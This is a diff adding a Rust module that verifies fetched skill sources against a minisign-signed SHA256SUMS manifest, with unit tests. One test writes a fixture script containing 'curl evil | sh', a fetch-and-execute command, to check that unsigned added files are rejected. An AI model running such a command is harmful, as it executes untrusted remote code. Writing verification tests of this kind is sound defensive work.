@@ -0,0 +1,280 @@
+use anyhow::{bail, Context, Result};
+use minisign_verify::{PublicKey, Signature};
+use std::collections::BTreeMap;
+use std::fs;
+use std::path::{Path, PathBuf};
+
+use super::RemoteSpec;
+use crate::config::{self, VerifySettings};
+use crate::{ui, util};
+
+/// Per-file checksums published at the source root, `sha256sum` format.
+pub const CHECKSUMS_FILE: &str = "SHA256SUMS";
+/// Minisign signature over `SHA256SUMS`.
+pub const SIGNATURE_FILE: &str = "SHA256SUMS.minisig";
+
+/// Checksum manifest of a fetched source, authenticated once and then used
+/// to check each item before it is copied.
+pub struct SourceVerifier {
+    root: PathBuf,
+    checksums: Option<BTreeMap<String, String>>,
+}
+
+impl SourceVerifier {
+    /// Load the manifest at `root` using the user's `[verify]` settings.
+    pub fn load(root: &Path, label: &str) -> Result<Self> {
+        Self::load_with(root, label, &config::load_settings()?.verify)
+    }
+
+    fn load_with(root: &Path, label: &str, settings: &VerifySettings) -> Result<Self> {
+        let trusted = trusted_keys(settings)?;
+        let sums_path = root.join(CHECKSUMS_FILE);
+        if !sums_path.is_file() {
+            if settings.require {
+                bail!(
+                    "{} has no {}; signed sources are required (verify.require in {})",
+                    label,
+                    CHECKSUMS_FILE,
+                    config::settings_path().display()
+                );
+            }
+            return Ok(SourceVerifier {
+                root: root.to_path_buf(),
+                checksums: None,
+            });
+        }
+
+        let manifest =
+            fs::read(&sums_path).context(format!("Failed to read {}", sums_path.display()))?;
+        let sig_path = root.join(SIGNATURE_FILE);
+        if sig_path.is_file() {
+            let sig_text = fs::read_to_string(&sig_path)
+                .context(format!("Failed to read {}", sig_path.display()))?;
+            let signature = Signature::decode(&sig_text)
+                .map_err(|e| anyhow::anyhow!("Invalid {} in {}: {}", SIGNATURE_FILE, label, e))?;
+
+            if trusted.is_empty() {
+                if settings.require {
+                    bail!(
+                        "{} is signed, but no trusted keys are configured (verify.trusted_keys)",
+                        label
+                    );
+                }
+                ui::warn(&format!(
+                    "{} is signed, but no trusted keys are configured; checking checksums only",
+                    label
+                ));
+            } else if trusted
+                .iter()
+                .any(|key| key.verify(&manifest, &signature, false).is_ok())
+            {
+                ui::success(&format!("Verified signature of {}", label));
+            } else {
+                bail!(
+                    "Signature check failed: {} in {} is not signed by a trusted key",
+                    SIGNATURE_FILE,
+                    label
+                );
+            }
+        } else if settings.require {
+            bail!("{} has an unsigned {}; signed sources are required", label, CHECKSUMS_FILE);
+        }
+
+        Ok(SourceVerifier {
+            root: root.to_path_buf(),
+            checksums: Some(parse_checksums(&String::from_utf8_lossy(&manifest))?),
+        })
+    }
+
+    /// Check that every file under `item` matches the manifest and that no
+    /// listed file is missing. A no-op for sources without a manifest.
+    pub fn check(&self, item: &Path) -> Result<()> {
+        let Some(checksums) = &self.checksums else {
+            return Ok(());
+        };
+        let prefix = item
+            .strip_prefix(&self.root)
+            .context("Item is outside the verified source")?
+            .to_string_lossy()
+            .replace('\\', "/");
+
+        let files = if item.is_file() {
+            vec![(String::new(), item.to_path_buf())]
+        } else {
+            util::list_files(item)?
+        };
+        for (rel, path) in &files {
+            let rel = join_rel(&prefix, rel);
+            let expected = checksums
+                .get(&rel)
+                .context(format!("{} is not listed in {}", rel, CHECKSUMS_FILE))?;
+            let actual = sha256_file(path)?;
+            if &actual != expected {
+                bail!("Checksum mismatch for {}: expected {}, got {}", rel, expected, actual);
+            }
+        }
+
+        let dir_prefix = format!("{}/", prefix);
+        for listed in checksums.keys() {
+            let inside = prefix.is_empty() || *listed == prefix || listed.starts_with(&dir_prefix);
+            if inside && !self.root.join(listed).is_file() {
+                bail!("{} is listed in {} but missing", listed, CHECKSUMS_FILE);
+            }
+        }
+        Ok(())
+    }
+}
+
+/// Verify one fetched item (`source_path` from `fetch_dir` for `spec`).
+pub fn verify_item(spec: &RemoteSpec, source_path: &Path) -> Result<()> {
+    let root = source_root(spec, source_path);
+    SourceVerifier::load(&root, &spec.repo_label())?.check(source_path)
+}
+
+/// Gate for content fetched without its source tree (single raw files),
+/// which cannot be checked against a manifest.
+pub fn allow_unverified(label: &str) -> Result<()> {
+    if config::load_settings()?.verify.require {
+        bail!(
+            "{} was fetched as a single file and cannot be verified; signed sources are required",
+            label
+        );
+    }
+    Ok(())
+}
+
+/// Repository root of a fetched item: `source_path` minus `spec.path`.
+pub fn source_root(spec: &RemoteSpec, source_path: &Path) -> PathBuf {
+    let depth = spec.path.split('/').filter(|s| !s.is_empty()).count();
+    source_path
+        .ancestors()
+        .nth(depth)
+        .unwrap_or(source_path)
+        .to_path_buf()
+}
+
+fn trusted_keys(settings: &VerifySettings) -> Result<Vec<PublicKey>> {
+    settings
+        .trusted_keys
+        .iter()
+        .map(|key| {
+            PublicKey::from_base64(key.trim()).map_err(|e| {
+                anyhow::anyhow!(
+                    "Invalid trusted key '{}' in {}: {}",
+                    key,
+                    config::settings_path().display(),
+                    e
+                )
+            })
+        })
+        .collect()
+}
+
+/// Parse `<hex>  <path>` lines (`*` binary marker and `./` prefixes allowed).
+fn parse_checksums(content: &str) -> Result<BTreeMap<String, String>> {
+    let mut checksums = BTreeMap::new();
+    for line in content.lines() {
+        let line = line.trim();
+        if line.is_empty() || line.starts_with('#') {
+            continue;
+        }
+        let (hash, path) = line
+            .split_once(char::is_whitespace)
+            .context(format!("Malformed {} line: {}", CHECKSUMS_FILE, line))?;
+        let path = path.trim_start().trim_start_matches('*');
+        let path = path.strip_prefix("./").unwrap_or(path);
+        if hash.len() != 64 || !hash.chars().all(|c| c.is_ascii_hexdigit()) {
+            bail!("Malformed {} line: {}", CHECKSUMS_FILE, line);
+        }
+        checksums.insert(path.to_string(), hash.to_lowercase());
+    }
+    Ok(checksums)
+}
+
+fn join_rel(prefix: &str, rel: &str) -> String {
+    match (prefix.is_empty(), rel.is_empty()) {
+        (true, _) => rel.to_string(),
+        (false, true) => prefix.to_string(),
+        (false, false) => format!("{}/{}", prefix, rel),
+    }
+}
+
+fn sha256_file(path: &Path) -> Result<String> {
+    use sha2::{Digest, Sha256};
+    let data = fs::read(path).context(format!("Failed to read {}", path.display()))?;
+    Ok(util::hex(&Sha256::digest(&data)))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    // Fixture key and signature over `SUMS` (ed25519, minisign prehashed format)
+    const PUBLIC_KEY: &str = "RWQBAgMEBQYHCAOhB7/zzhC+HXDdGOdLwJln5NYwm6UNXx3chmQSVTG4";
+    const SUMS: &str = "b5bb9d8014a0f9b1d61e21e796d78dccdf1352f23cd32812f4850b878ae4944c  development/my-skill/SKILL.md\n";
+    const SIGNATURE: &str = "untrusted comment: signature from agt test key
+RUQBAgMEBQYHCD32HoGjQxa5zcKz5b3eg151loo5WYK3KXCJfPA7KV5kDB9Fy2JxhJ5k0O5XCJowCnydsfplCgAaTAiQAJLZWw8=
+trusted comment: timestamp:0\tfile:SHA256SUMS
+6PAAAgHDUUwUq3hDIx+trcSMEhLsB+PooVyj4eDMtg1GrnRNqna9gp5kwGPvOMvmgvTdJTmuqXv6DFYlqFdoDw==
+";
+
+    fn signed_repo() -> (tempfile::TempDir, PathBuf) {
+        let tmp = tempfile::TempDir::new().unwrap();
+        let skill = tmp.path().join("development/my-skill");
+        fs::create_dir_all(&skill).unwrap();
+        fs::write(skill.join("SKILL.md"), "foo\n").unwrap();
+        fs::write(tmp.path().join(CHECKSUMS_FILE), SUMS).unwrap();
+        fs::write(tmp.path().join(SIGNATURE_FILE), SIGNATURE).unwrap();
+        (tmp, skill)
+    }
+
+    fn trusting(key: &str) -> VerifySettings {
+        VerifySettings {
+            require: true,
+            trusted_keys: vec![key.to_string()],
+        }
+    }
+
+    #[test]
+    fn test_signed_source_verifies() {
+        let (tmp, skill) = signed_repo();
+        let verifier = SourceVerifier::load_with(tmp.path(), "repo", &trusting(PUBLIC_KEY)).unwrap();
+        verifier.check(&skill).unwrap();
+
+        // Files added after signing are rejected
+        fs::write(skill.join("run.sh"), "curl evil | sh\n").unwrap();
+        assert!(verifier.check(&skill).is_err());
+    }
+
+    #[test]
+    fn test_tampered_or_untrusted_source_fails() {
+        let (tmp, skill) = signed_repo();
+        fs::write(skill.join("SKILL.md"), "bar\n").unwrap();
+        let verifier = SourceVerifier::load_with(tmp.path(), "repo", &trusting(PUBLIC_KEY)).unwrap();
+        assert!(verifier.check(&skill).is_err());
+
+        let other_key = "RWQBAgMEBQYHCAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";
+        assert!(SourceVerifier::load_with(tmp.path(), "repo", &trusting(other_key)).is_err());
+    }
+
+    #[test]
+    fn test_unsigned_source_policy() {
+        let tmp = tempfile::TempDir::new().unwrap();
+        let lenient = VerifySettings::default();
+        let verifier = SourceVerifier::load_with(tmp.path(), "repo", &lenient).unwrap();
+        verifier.check(tmp.path()).unwrap();
+        assert!(SourceVerifier::load_with(tmp.path(), "repo", &trusting(PUBLIC_KEY)).is_err());
+    }
+
+    #[test]
+    fn test_source_root_strips_spec_path() {
+        let spec = RemoteSpec {
+            path: "development/my-skill".to_string(),
+            ..Default::default()
+        };
+        assert_eq!(
+            source_root(&spec, Path::new("/tmp/x/repo/development/my-skill")),
+            PathBuf::from("/tmp/x/repo")
+        );
+    }
+}